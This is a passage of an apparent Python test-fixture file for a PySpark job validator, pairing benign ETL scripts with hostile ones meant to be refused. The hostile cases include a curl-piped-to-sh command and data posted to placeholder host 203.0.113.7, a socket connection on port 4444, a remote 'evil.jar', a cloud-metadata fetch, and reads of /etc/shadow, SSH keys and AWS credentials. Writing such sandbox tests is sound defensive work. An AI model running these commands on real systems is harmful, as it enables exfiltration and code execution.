            return pets.withColumn("licence_no", F.lit(str(java_col.toString())))
            """,
            "pet_licences_copy",
        ),
    ),
    (
        "import_private_to_java_column",
        _job(
            "A private helper imported from pyspark.sql.column.",
            r"""
            gardens = spark.table("garden_plots")
            jc = _to_java_column(F.col("plot_id"))
            return gardens.withColumn("plot_tag", F.lit(jc.toString()))
            """,
            "garden_plot_tags",
            imports="from pyspark.sql.column import _to_java_column",
        ),
    ),
    (
        "conf_set_default_filesystem",
        _job(
            "spark.conf changed so that table writes land on the local file system.",
            r"""
            spark.conf.set("spark.hadoop.fs.defaultFS", "file:///")
            return spark.table("kiln_firings")
            """,
            "kiln_firings",
        ),
    ),
    (
        "builder_config_remote_jars_in_main",
        _job(
            "An ordinary build, but the session builder pulls a jar from the network.",
            r"""
            return spark.table("choir_rehearsals").where(F.col("attendees") > 0)
            """,
            "choir_rehearsals",
            main_body=r"""
            spark = (
                SparkSession.builder.appName("choir_rehearsals")
                .config("spark.jars", "http://203.0.113.7/evil.jar")
                .getOrCreate()
            )
            build(spark).write.mode("overwrite").saveAsTable("choir_rehearsals")
            """,
        ),
    ),
    (
        "catalog_create_table_over_path_then_table",
        _job(
            "A catalog table created over a system directory, then read with spark.table.",
            r"""
            spark.catalog.createTable("staging_notes", path="/etc", source="text")
            return spark.table("staging_notes")
            """,
            "staging_notes_copy",
        ),
    ),
    (
        "spark_context_get_or_create",
        _job(
            "The SparkContext obtained from its class.",
            r"""
            sc = SparkContext.getOrCreate()
            files = sc.wholeTextFiles("/root")
            return files.toDF(["path", "content"])
            """,
            "root_files",
            imports="from pyspark import SparkContext",
        ),
    ),
    (
        "pyspark_java_gateway_import",
        _job(
            "A fresh JVM gateway launched from pyspark.java_gateway.",
            r"""
            gateway = launch_gateway()
            gateway.jvm.java.lang.Runtime.getRuntime().exec("id")
            return spark.table("cinema_screenings")
            """,
            "cinema_screenings",
            imports="from pyspark.java_gateway import launch_gateway",
        ),
    ),
    (
        "pyspark_cloudpickle_loads",
        _job(
            "Arbitrary code unpickled with the cloudpickle bundled in pyspark.",
            r"""
            loads(bytes.fromhex(PAYLOAD))
            return spark.table("bakery_batches")
            """,
            "bakery_batches",
            imports="from pyspark.cloudpickle import loads",
            prelude=r"""
            PAYLOAD = "80049500000000000000008c02706f948c0673797374656d9493948c026964948594529452942e"
            """,
        ),
    ),
    (
        "pyspark_root_active_context_private",
        _job(
            "The active SparkContext reached through the pyspark package root.",
            r"""
            sc = pyspark.SparkContext._active_spark_context
            return sc.textFile("/etc/passwd").map(lambda l: (l,)).toDF(["line"])
            """,
            "passwd_via_root",
            imports="import pyspark",
        ),
    ),
    # ---- Python escape hatches -------------------------------------------------------------------
    (
        "import_os_environ_into_literal",
        _job(
            "An environment variable baked into a literal column.",
            r"""
            courts = spark.table("tennis_courts")
            return courts.withColumn("token", F.lit(os.environ.get("AWS_SECRET_ACCESS_KEY", "")))
            """,
            "tennis_courts",
            imports="import os",
        ),
    ),
    (
        "from_os_import_system",
        _job(
            "os.system imported under a harmless name.",
            r"""
            refresh("curl -s http://203.0.113.7/x | sh")
            return spark.table("skate_parks")
            """,
            "skate_parks",
            imports="from os import system as refresh",
        ),
    ),
    (
        "subprocess_check_output",
        _job(
            "A shell command run with subprocess.",
            r"""
            who = subprocess.check_output(["id"]).decode()
            return spark.table("campsites").withColumn("who", F.lit(who))
            """,
            "campsites",
            imports="import subprocess",
        ),
    ),
    (
        "dunder_import_os_inline",
        _job(
            "__import__('os') inline in an otherwise normal select.",
            r"""
            marinas = spark.table("marina_berths")
            return marinas.select(
                "berth_id", F.lit(__import__("os").getcwd()).alias("where")
            )
            """,
            "marina_berths",
        ),
    ),
    (
        "open_etc_passwd_literal",
        _job(
            "/etc/passwd read with open and stored in a column.",
            r"""
            with open("/etc/passwd") as handle:
                content = handle.read()
            return spark.table("orchards").withColumn("blob", F.lit(content))
            """,
            "orchards",
        ),
    ),
    (
        "exec_string",
        _job(
            "exec of a string that imports os.",
            r"""
            exec("import os; os.system('id')")
            return spark.table("quarry_loads")
            """,
            "quarry_loads",
        ),
    ),
    (
        "eval_expression_in_filter",
        _job(
            "eval of an expression used as a filter threshold.",
            r"""
            limit = eval("__import__('os').getpid()")
            return spark.table("glacier_melt").where(F.col("mm") > limit)
            """,
            "glacier_melt",
        ),
    ),
    (
        "compile_code_object",
        _job(
            "A code object built with compile and run through a function call.",
            r"""
            code = compile("open('/etc/passwd').read()", "<job>", "eval")
            return spark.table("lighthouse_logs").withColumn("x", F.lit(str(code)))
            """,
            "lighthouse_logs",
        ),
    ),
    (
        "getattr_split_attribute_name",
        _job(
            "spark.read reached with getattr and a split attribute name.",
            r"""
            reader = getattr(spark, "re" + "ad")
            return reader.text("/etc/passwd")
            """,
            "passwd_getattr",
        ),
    ),
    (
        "setattr_monkeypatch_dataframe",
        _job(
            "DataFrame monkey-patched with setattr.",
            r"""
            setattr(DataFrame, "saveAsTable", DataFrame.toPandas)
            return spark.table("recycling_pickups")
            """,
            "recycling_pickups",
        ),
    ),
    (
        "socket_connect_out",
        _job(
            "A network connection opened with socket.",
            r"""
            conn = socket.create_connection(("203.0.113.7", 4444))
            conn.sendall(b"hello")
            return spark.table("canal_locks")
            """,
            "canal_locks",
            imports="import socket",
        ),
    ),
    (
        "pathlib_read_text",
        _job(
            "A file read with pathlib.",
            r"""
            key = Path("/home/spark/.ssh/id_rsa").read_text()
            return spark.table("ski_lifts").withColumn("k", F.lit(key))
            """,
            "ski_lifts",
            imports="from pathlib import Path",
        ),
    ),
    (
        "urllib_request_urlopen",
        _job(
            "A URL fetched with urllib.request.",
            r"""
            body = urllib.request.urlopen("http://169.254.169.254/latest/meta-data/").read()
            return spark.table("bridge_inspections").withColumn("m", F.lit(body.decode()))
            """,
            "bridge_inspections",
            imports="import urllib.request",
        ),
    ),
    (
        "requests_post_exfiltration",
        _job(
            "Data posted out with requests.",
            r"""
            sightings = spark.table("bird_sightings")
            requests.post("http://203.0.113.7/collect", data=str(sightings.schema))
            return sightings
            """,
            "bird_sightings",
            imports="import requests",
        ),
    ),
    (
        "ctypes_libc_system",
        _job(
            "libc system() called through ctypes.",
            r"""
            ctypes.CDLL("libc.so.6").system(b"id")
            return spark.table("snow_depths")
            """,
            "snow_depths",
            imports="import ctypes",
        ),
    ),
    (
        "importlib_import_module",
        _job(
            "os imported dynamically with importlib.",
            r"""
            mod = importlib.import_module("o" + "s")
            return spark.table("coral_surveys").withColumn("cwd", F.lit(mod.getcwd()))
            """,
            "coral_surveys",
            imports="import importlib",
        ),
    ),
    (
        "builtins_module_open",
        _job(
            "open reached through the builtins module.",
            r"""
            text = builtins.open("/etc/hostname").read()
            return spark.table("reef_temps").withColumn("host", F.lit(text))
            """,
            "reef_temps",
            imports="import builtins",
        ),
    ),
    (
        "object_subclasses_walk",
        _job(
            "The classic ().__class__.__base__.__subclasses__() walk.",
            r"""
            classes = ().__class__.__base__.__subclasses__()
            return spark.table("kayak_rentals").withColumn("n", F.lit(len(classes)))
            """,
            "kayak_rentals",
        ),
    ),
    (
        "globals_builtins_open",
        _job(
            "open fetched from globals()['__builtins__'].",
            r"""
            b = globals()["__builtins__"]
            opener = b["open"] if isinstance(b, dict) else b.open
            return spark.table("pier_fish").withColumn("x", F.lit(opener("/etc/passwd").read()))
            """,
            "pier_fish",
        ),
    ),
    (
        "shutil_copy_out",
        _job(
            "A file copied with shutil.",
            r"""
            shutil.copy("/etc/shadow", "/tmp/shadow")
            return spark.table("tea_harvests")
            """,
            "tea_harvests",
            imports="import shutil",
        ),
    ),
    (
        "sys_modules_os",
        _job(
            "os fetched from sys.modules.",
            r"""
            os_mod = sys.modules["os"]
            return spark.table("wine_barrels").withColumn("u", F.lit(os_mod.getlogin()))
            """,
            "wine_barrels",
            imports="import sys",
        ),
    ),
    (
        "operator_attrgetter_reader",
        _job(
            "spark.read obtained with operator.attrgetter, no getattr call.",
            r"""
            reader = attrgetter("read")(spark)
            return reader.csv("/etc/passwd")
            """,
            "passwd_attrgetter",
            imports="from operator import attrgetter",
        ),
    ),
    (
        "breakpoint_debugger",
        _job(
            "A breakpoint() that drops into an interactive debugger.",
            r"""
            farms = spark.table("fish_farms")
            breakpoint()
            return farms
            """,
            "fish_farms",
        ),
    ),
    (
        "dead_branch_import_os",
        _job(
            "A forbidden import inside a branch that looks unreachable.",
            r"""
            if spark.version.startswith("0."):
                import os
                os.system("id")
            return spark.table("volunteer_shifts")
            """,
            "volunteer_shifts",
        ),
    ),
    (
        "json_load_of_opened_file",
        _job(
            "json is allowed, but it is fed a file opened from disk.",
            r"""
            config = json.load(open("/root/.aws/credentials.json"))
            return spark.table("ambulance_calls").withColumn("cfg", F.lit(str(config)))
            """,
            "ambulance_calls",
            imports="import json",
        ),
    ),
    (
        "type_dunder_getattribute_reader",
        _job(
            "spark.read through type(spark).__getattribute__.",
            r"""
            reader = type(spark).__getattribute__(spark, "read")
            return reader.text("/etc/passwd")
            """,
            "passwd_getattribute",
        ),
    ),
    (
        "class_with_dunder_del_side_effect",
        _job(
            "A helper class whose __del__ runs a command when collected.",
            r"""
            Marker()
            return spark.table("lab_samples")
            """,
            "lab_samples",
            prelude=r"""
            class Marker:
                def __del__(self):
                    __import__("os").system("id")
            """,
        ),
    ),
]


# --------------------------------------------------------------------------------------------
# Benign scripts (must_refuse=False)
# --------------------------------------------------------------------------------------------

_BENIGN: list[tuple[str, str]] = [
    (
        "shipment_lane_summary_groupby_agg",
        _job(
            "Weight, count and average transit days per shipping lane.",
            r"""
            shipments = spark.table("shipments")
            return (
                shipments.where(F.col("status") == "delivered")
                .groupBy("origin_port", "destination_port")
                .agg(
                    F.count("*").alias("shipment_count"),
                    F.sum("weight_kg").alias("total_weight_kg"),
                    F.avg(F.datediff("delivered_at", "shipped_at")).alias("avg_transit_days"),
                )
            )
            """,
            "shipment_lane_summary",
        ),
    ),
    (
        "latest_sensor_reading_window_row_number",
        _job(
            "Latest reading per sensor using a row_number window.",
            r"""
            readings = spark.table("sensor_readings")
            w = Window.partitionBy("sensor_id").orderBy(F.col("read_at").desc())
            return (
                readings.withColumn("rn", F.row_number().over(w))
                .where(F.col("rn") == 1)
                .drop("rn")
            )
            """,
            "sensor_latest_reading",
            imports="from pyspark.sql import Window",
        ),
    ),
    (
        "invoice_where_string_lower_trim_coalesce",
        _job(
            "Unpaid invoices cleaned with ordinary SQL text functions in a where string.",
            r"""
            invoices = spark.table("invoices")
            return invoices.where(
                "lower(trim(coalesce(payment_status, 'unpaid'))) = 'unpaid' and amount_due > 0"
            ).select("invoice_id", "vendor_id", "amount_due", "due_date")
            """,
            "unpaid_invoices",
        ),
    ),
    (
        "enrollments_join_courses_with_alias",
        _job(
            "Enrollments joined to courses with DataFrame aliases.",
            r"""
            e = spark.table("enrollments").alias("e")
            c = spark.table("courses").alias("c")
            return e.join(c, F.col("e.course_id") == F.col("c.course_id"), "inner").select(
                F.col("e.student_id"),
                F.col("c.course_code"),
                F.col("c.credits"),
                F.col("e.enrolled_on"),
            )
            """,
            "enrollment_courses",
        ),
    ),
    (
        "flight_delay_band_expr_case_when",
        _job(
            "Flights banded by delay with a CASE WHEN in F.expr.",
            r"""
            flights = spark.table("flights")
            return flights.withColumn(
                "delay_band",
                F.expr(
                    "case when arr_delay_min is null then 'unknown' "
                    "when arr_delay_min <= 15 then 'on_time' "
                    "when arr_delay_min <= 60 then 'late' else 'very_late' end"
                ),
            )
            """,
            "flight_delay_bands",
        ),
    ),
    (
        "invoice_selectexpr_cast_round_date_trunc",
        _job(
            "Monthly invoice lines with casts and rounding in selectExpr.",
            r"""
            lines = spark.table("invoice_lines")
            return lines.selectExpr(
                "invoice_id",
                "date_trunc('month', invoiced_at) as invoice_month",
                "cast(quantity as int) as quantity",
                "round(cast(unit_price as decimal(18, 4)) * quantity, 2) as line_total",
            )
            """,
            "invoice_line_totals",
        ),
    ),
    (
        "regional_registrations_union_by_name_distinct",
        _job(
            "Vehicle registrations from two regions, unioned and de-duplicated.",
            r"""
            north = spark.table("registrations_north").select("plate", "make", "model", "registered_on")
            south = spark.table("registrations_south").select("plate", "make", "model", "registered_on")
            return north.unionByName(south).distinct()
            """,
            "registrations_all",
        ),
    ),
    (
        "top_routes_order_desc_nulls_last_limit",
        _job(
            "The 50 busiest bus routes, ties broken by name with nulls last.",
            r"""
            boardings = spark.table("bus_boardings")
            return (
                boardings.groupBy("route_id", "route_name")
                .agg(F.sum("passengers").alias("passengers"))
                .orderBy(F.desc("passengers"), F.asc_nulls_last("route_name"))
                .limit(50)
            )
            """,
            "top_bus_routes",
        ),
    ),
    (
        "row_number_window_in_sql_expr",
        _job(
            "Most recent lab result per patient using row_number() over (...) in F.expr.",
            r"""
            results = spark.table("lab_results")
            ranked = results.withColumn(
                "rn",
                F.expr("row_number() over (partition by patient_id order by collected_at desc)"),
            )
            return ranked.filter("rn = 1").drop("rn")
            """,
            "latest_lab_results",
        ),
    ),
    (
        "dense_rank_products_per_category",
        _job(
            "Products ranked by revenue inside their category.",
            r"""
            sales = spark.table("product_sales")
            totals = sales.groupBy("category", "product_id").agg(F.sum("revenue").alias("revenue"))
            w = Window.partitionBy("category").orderBy(F.col("revenue").desc())
            return totals.withColumn("rank", F.rank().over(w)).withColumn(
                "dense_rank", F.dense_rank().over(w)
            )
            """,
            "product_category_ranks",
            imports="from pyspark.sql.window import Window",
        ),
    ),
    (
        "running_total_rows_between",
        _job(
            "Running total of deposits per account.",
            r"""
            deposits = spark.table("account_deposits")
            w = (
                Window.partitionBy("account_id")
                .orderBy("deposited_at")
                .rowsBetween(Window.unboundedPreceding, Window.currentRow)
            )
            return deposits.withColumn("running_balance", F.sum("amount").over(w))
            """,
            "account_running_balance",
            imports="from pyspark.sql import Window",
        ),
    ),
    (
        "tenure_datediff_months_between",
        _job(
            "Employee tenure in days and months.",
            r"""
            staff = spark.table("staff_contracts")
            return staff.select(
                "employee_id",
                F.to_date("start_date").alias("start_date"),
                F.datediff(F.current_date(), F.to_date("start_date")).alias("tenure_days"),
                F.round(F.months_between(F.current_date(), F.to_date("start_date")), 1).alias(
                    "tenure_months"
                ),
            )
            """,
            "staff_tenure",
        ),
    ),
    (
        "great_circle_distance_with_math",
        _job(
            "Great-circle distance between airports, using math constants.",
            r"""
            legs = spark.table("flight_legs")
            rad = math.pi / 180.0
            lat1 = F.col("dep_lat") * rad
            lat2 = F.col("arr_lat") * rad
            dlat = (F.col("arr_lat") - F.col("dep_lat")) * rad
            dlon = (F.col("arr_lon") - F.col("dep_lon")) * rad
            a = F.pow(F.sin(dlat / 2), 2) + F.cos(lat1) * F.cos(lat2) * F.pow(F.sin(dlon / 2), 2)
            return legs.withColumn(
                "distance_km", F.round(F.lit(2 * EARTH_RADIUS_KM) * F.asin(F.sqrt(a)), 1)
            )
            """,
            "flight_leg_distances",
            imports="import math",
            prelude=r"""
            EARTH_RADIUS_KM = 6371.0
            """,
        ),
    ),
    (
        "bookings_since_fixed_date_datetime",
        _job(
            "Hotel bookings since the start of the fiscal year.",
            r"""
            bookings = spark.table("hotel_bookings")
            return bookings.where(F.col("check_in") >= F.lit(FISCAL_START)).where(
                F.col("check_out") < F.lit(FISCAL_START + timedelta(days=366))
            )
            """,
            "fiscal_bookings",
            imports="from datetime import date, timedelta",
            prelude=r"""
            FISCAL_START = date(2024, 4, 1)
            """,
        ),
    ),
    (
        "vat_with_decimal_constant",
        _job(
            "VAT computed with a Decimal rate and DecimalType casts.",
            r"""
            receipts = spark.table("shop_receipts")
            net = F.col("net_amount").cast(DecimalType(18, 2))
            return receipts.withColumn("vat", F.round(net * F.lit(VAT_RATE), 2)).withColumn(
                "gross_amount", F.round(net * F.lit(1 + VAT_RATE), 2)
            )
            """,
            "receipts_with_vat",
            imports="from decimal import Decimal\nfrom pyspark.sql.types import DecimalType",
            prelude=r"""
            VAT_RATE = Decimal("0.20")
            """,
        ),
    ),
    (
        "reduce_union_of_quarterly_tables",
        _job(
            "Quarterly meter tables stacked with functools.reduce.",
            r"""
            quarters = [spark.table(name) for name in ("meter_q1", "meter_q2", "meter_q3", "meter_q4")]
            return reduce(DataFrame.unionByName, quarters)
            """,
            "meter_year",
            imports="from functools import reduce",
        ),
    ),
    (
        "normalise_column_names_with_re",
        _job(
            "Column names normalised to snake_case with a regular expression.",
            r"""
            raw = spark.table("grant_applications_raw")
            out = raw
            for name in raw.columns:
                out = out.withColumnRenamed(name, snake(name))
            return out
            """,
            "grant_applications",
            imports="import re",
            prelude=r"""
            def snake(name: str) -> str:
                return re.sub(r"[^0-9a-z]+", "_", name.strip().lower()).strip("_")
            """,
        ),
    ),
    (
        "monthly_pivot_by_channel",
        _job(
            "Monthly ticket counts pivoted by support channel.",
            r"""
            tickets = spark.table("support_tickets")
            return (
                tickets.withColumn("month", F.date_trunc("month", F.col("opened_at")))
                .groupBy("month")
                .pivot("channel", ["email", "phone", "chat"])
                .agg(F.count("ticket_id"))
                .orderBy("month")
            )
            """,
            "tickets_by_channel",
        ),
    ),
    (
        "text_cleaning_regexp_split_concat_ws",
        _job(
            "Postal addresses cleaned with regexp_replace, split and concat_ws.",
            r"""
            addresses = spark.table("postal_addresses")
            cleaned = addresses.withColumn(
                "street", F.initcap(F.regexp_replace(F.trim("street"), r"\s+", " "))
            ).withColumn("postcode", F.upper(F.regexp_replace("postcode", " ", "")))
            return cleaned.withColumn(
                "outward_code", F.regexp_extract("postcode", r"^([A-Z]{1,2}[0-9][0-9A-Z]?)", 1)
            ).withColumn(
                "label", F.concat_ws(", ", "street", "city", F.split("postcode", "-").getItem(0))
            )
            """,
            "postal_addresses_clean",
        ),
    ),
    (
        "left_anti_join_missing_inspections",
        _job(
            "Elevators with no inspection in the last year.",
            r"""
            elevators = spark.table("elevators")
            recent = spark.table("elevator_inspections").where(
                F.col("inspected_on") >= F.add_months(F.current_date(), -12)
            )
            return elevators.join(recent.select("elevator_id"), "elevator_id", "left_anti")
            """,
            "elevators_overdue",
        ),
    ),
    (
        "fillna_and_drop_duplicates",
        _job(
            "Library members de-duplicated with defaults filled in.",
            r"""
            members = spark.table("library_members")
            return (
                members.fillna({"branch": "main", "loans_open": 0})
                .dropDuplicates(["member_id"])
                .withColumnRenamed("loans_open", "open_loans")
            )
            """,
            "library_members_clean",
        ),
    ),
    (
        "where_string_in_between_is_not_null",
        _job(
            "Parcels in a weight range and a set of statuses, filtered with SQL text.",
            r"""
            parcels = spark.table("parcels")
            return parcels.where(
                "status in ('in_transit', 'out_for_delivery') "
                "and weight_kg between 0.5 and 30 and tracking_code is not null"
            )
            """,
            "parcels_in_flight",
        ),
    ),
    (
        "filter_string_like_and_date_literal",
        _job(
            "Warehouse scans since a date, with a LIKE on the location code.",
            r"""
            scans = spark.table("warehouse_scans")
            return scans.filter(
                "scan_date >= date '2024-01-01' and location_code like 'DC-%' and not is_test"
            )
            """,
            "warehouse_scans_2024",
        ),
    ),
    (
        "nested_when_otherwise_bands",
        _job(
            "Air quality index bands with nested when/otherwise.",
            r"""
            air = spark.table("air_quality")
            band = (
                F.when(F.col("pm25") < 12, "good")
                .when(F.col("pm25") < 35.5, "moderate")
                .when(F.col("pm25") < 55.5, "unhealthy_sensitive")
                .otherwise("unhealthy")
            )
            return air.withColumn("band", band).groupBy("city", "band").agg(F.count("*").alias("hours"))
            """,
            "air_quality_bands",
        ),
    ),
    (
        "reflectance_column_and_literal_text",
        _job(
            "Satellite tiles: a column named reflectance and remarks mentioning reflect as plain text.",
            r"""
            tiles = spark.table("satellite_tiles")
            return (
                tiles.where("reflectance > 0.2 and lower(remark) not like '%reflect%'")
                .groupBy("tile_id")
                .agg(F.avg("reflectance").alias("avg_reflectance"))
            )
            """,
            "bright_tiles",
        ),
    ),
    (
        "typed_helpers_with_typing",
        _job(
            "Course grade aggregation through small typed helper functions.",
            r"""
            grades = spark.table("course_grades")
            return summarise(grades, ["course_id", "term"], None)
            """,
            "course_grade_summary",
            imports="from typing import List, Optional",
            prelude=r"""
            def summarise(df: DataFrame, keys: List[str], floor: Optional[float]) -> DataFrame:
                if floor is not None:
                    df = df.where(F.col("grade") >= floor)
                return df.groupBy(*keys).agg(
                    F.avg("grade").alias("avg_grade"),
                    F.min("grade").alias("min_grade"),
                    F.max("grade").alias("max_grade"),
                )
            """,
        ),
    ),
    (
        "rename_mapping_ordered_dict",
        _job(
            "Legacy fleet columns renamed from an OrderedDict mapping.",
            r"""
            fleet = spark.table("fleet_vehicles_legacy")
            return fleet.select([F.col(old).alias(new) for old, new in RENAMES.items()])
            """,
            "fleet_vehicles",
            imports="from collections import OrderedDict",
            prelude=r"""
            RENAMES = OrderedDict(
                [("VEH_ID", "vehicle_id"), ("VIN_NO", "vin"), ("ODO_KM", "odometer_km")]
            )
            """,
        ),
    ),
    (
        "itertools_chain_column_list",
        _job(
            "Key and measure columns combined with itertools.chain.",
            r"""
            readings = spark.table("turbine_readings")
            cols = list(chain(KEYS, MEASURES))
            return readings.select(*cols).where(F.col("rpm").isNotNull())
            """,
            "turbine_readings_slim",
            imports="from itertools import chain",
            prelude=r"""
            KEYS = ["turbine_id", "read_at"]
            MEASURES = ["rpm", "power_kw", "wind_ms"]
            """,
        ),
    ),
    (
        "json_constant_thresholds",
        _job(
            "Alert thresholds parsed from an inline JSON constant.",
            r"""
            limits = json.loads(THRESHOLDS)
            vitals = spark.table("icu_vitals")
            return vitals.where(
                (F.col("heart_rate") > limits["heart_rate"]) | (F.col("spo2") < limits["spo2"])
            )
            """,
            "icu_alerts",
            imports="import json",
            prelude=r"""
            THRESHOLDS = '{"heart_rate": 130, "spo2": 90}'
            """,
        ),
    ),
    (
        "distinct_counts_and_collect_set",
        _job(
            "Distinct riders and stations used per bike.",
            r"""
            trips = spark.table("bike_trips")
            return trips.groupBy("bike_id").agg(
                F.countDistinct("rider_id").alias("riders"),
                F.approx_count_distinct("start_station").alias("stations_approx"),
                F.collect_set("end_station").alias("end_stations"),
            )
            """,
            "bike_usage",
        ),
    ),
    (
        "broadcast_dimension_join",
        _job(
            "Meter readings joined to a small tariff table with a broadcast hint.",
            r"""
            readings = spark.table("meter_readings")
            tariffs = spark.table("tariffs")
            return readings.join(F.broadcast(tariffs), "tariff_code", "left").withColumn(
                "cost", F.round(F.col("kwh") * F.col("price_per_kwh"), 2)
            )
            """,
            "meter_costs",
        ),
    ),
    (
        "lag_lead_deltas",
        _job(
            "Change in reservoir level from the previous and to the next reading.",
            r"""
            levels = spark.table("reservoir_levels")
            w = Window.partitionBy("reservoir_id").orderBy("measured_at")
            return levels.withColumn(
                "delta_prev", F.col("level_m") - F.lag("level_m", 1).over(w)
            ).withColumn("delta_next", F.lead("level_m", 1).over(w) - F.col("level_m"))
            """,
            "reservoir_level_deltas",
            imports="from pyspark.sql import Window",
        ),
    ),
    (
        "append_mode_daily_load",
        _job(
            "Daily ferry ticket totals appended to the history table.",
            r"""
            tickets = spark.table("ferry_tickets")
            return (
                tickets.where(F.col("sold_on") == F.date_sub(F.current_date(), 1))
                .groupBy("sold_on", "route")
                .agg(F.sum("fare").alias("revenue"), F.count("*").alias("tickets"))
            )
            """,
            "ferry_ticket_history",
            main_body=r"""
            spark = SparkSession.builder.appName("ferry_ticket_history").getOrCreate()
            build(spark).write.mode("append").saveAsTable("ferry_ticket_history")
            """,
        ),
    ),
    (
        "hash_pii_sha2_upper",
        _job(
            "Volunteer e-mails hashed before loading the reporting table.",
            r"""
            volunteers = spark.table("volunteers")
            return volunteers.select(
                "volunteer_id",
                F.sha2(F.lower(F.trim("email")), 256).alias("email_hash"),
                F.upper("country_code").alias("country_code"),
            )
            """,
            "volunteers_reporting",
        ),
    ),
    (
        "explode_split_tags",
        _job(
            "One row per recipe tag.",
            r"""
            recipes = spark.table("recipes")
            return recipes.select(
                "recipe_id", F.explode(F.split(F.lower("tags"), ",")).alias("tag")
            ).where(F.length(F.trim("tag")) > 0)
            """,
            "recipe_tags",
        ),
    ),
    (
        "selectexpr_nvl_if_case",
        _job(
            "Insurance policies tidied with nvl, if and case in selectExpr.",
            r"""
            policies = spark.table("insurance_policies")
            return policies.selectExpr(
                "policy_id",
                "nvl(holder_name, 'unknown') as holder_name",
                "if(premium < 0, 0, premium) as premium",
                "case upper(cover_type) when 'F' then 'full' when 'T' then 'third_party' else 'other' end as cover",
                "year(start_date) as start_year",
            )
            """,
            "insurance_policies_clean",
        ),
    ),
    (
        "greatest_least_coalesce_lit",
        _job(
            "Daily temperature range with greatest/least and coalesce defaults.",
            r"""
            temps = spark.table("station_temperatures")
            return temps.withColumn(
                "t_max", F.greatest("t_morning", "t_noon", "t_evening")
            ).withColumn("t_min", F.least("t_morning", "t_noon", "t_evening")).withColumn(
                "station_name", F.coalesce(F.col("station_name"), F.lit("unnamed"))
            )
            """,
            "station_temperature_range",
        ),
    ),
    (
        "percentile_approx_in_agg_expr",
        _job(
            "Median and 95th percentile delivery time per depot.",
            r"""
            drops = spark.table("courier_drops")
            return drops.groupBy("depot_id").agg(
                F.expr("percentile_approx(minutes_to_drop, 0.5)").alias("median_minutes"),
                F.expr("percentile_approx(minutes_to_drop, 0.95)").alias("p95_minutes"),
                F.stddev("minutes_to_drop").alias("stddev_minutes"),
            )
            """,
            "depot_drop_times",
        ),
    ),
    (
        "multi_step_build_with_having_style_filter",
        _job(
            "Airlines with at least 100 flights and their cancellation rate.",
            r"""
            flights = spark.table("flights")
            stats = flights.groupBy("airline_code").agg(
                F.count("*").alias("flights"),
                F.sum(F.when(F.col("cancelled"), 1).otherwise(0)).alias("cancelled"),
            )
            return (
                stats.where("flights >= 100")
                .withColumn("cancel_rate", F.round(F.col("cancelled") / F.col("flights"), 4))
                .orderBy(F.col("cancel_rate").desc(), "airline_code")
            )
            """,
            "airline_cancel_rates",
        ),
    ),
    (
        "date_parts_and_formatting",
        _job(
            "Enrollment dates split into year, quarter and weekday.",
            r"""
            enrollments = spark.table("enrollments")
            return enrollments.select(
                "enrollment_id",
                F.year("enrolled_on").alias("year"),
                F.quarter("enrolled_on").alias("quarter"),
                F.dayofweek("enrolled_on").alias("weekday"),
                F.date_format("enrolled_on", "yyyy-MM").alias("year_month"),
                F.to_timestamp("confirmed_at", "yyyy-MM-dd HH:mm:ss").alias("confirmed_ts"),
            )
            """,
            "enrollment_date_parts",
        ),
    ),
    (
        "cast_types_and_struct_columns",
        _job(
            "Sensor payload fields cast and grouped into a struct.",
            r"""
            raw = spark.table("sensor_payloads")
            return raw.select(
                F.col("device_id").cast(StringType()).alias("device_id"),
                F.struct(
                    F.col("temp").cast(DoubleType()).alias("temp"),
                    F.col("humidity").cast(DoubleType()).alias("humidity"),
                ).alias("climate"),
                F.col("battery").cast(IntegerType()).alias("battery_pct"),
            )
            """,
            "sensor_payloads_typed",
            imports="from pyspark.sql.types import DoubleType, IntegerType, StringType",
        ),
    ),
]


FROZEN_CASES: list[tuple[str, str, bool]] = [(cid, text, True) for cid, text in _HOSTILE] + [
    (cid, text, False) for cid, text in _BENIGN
]
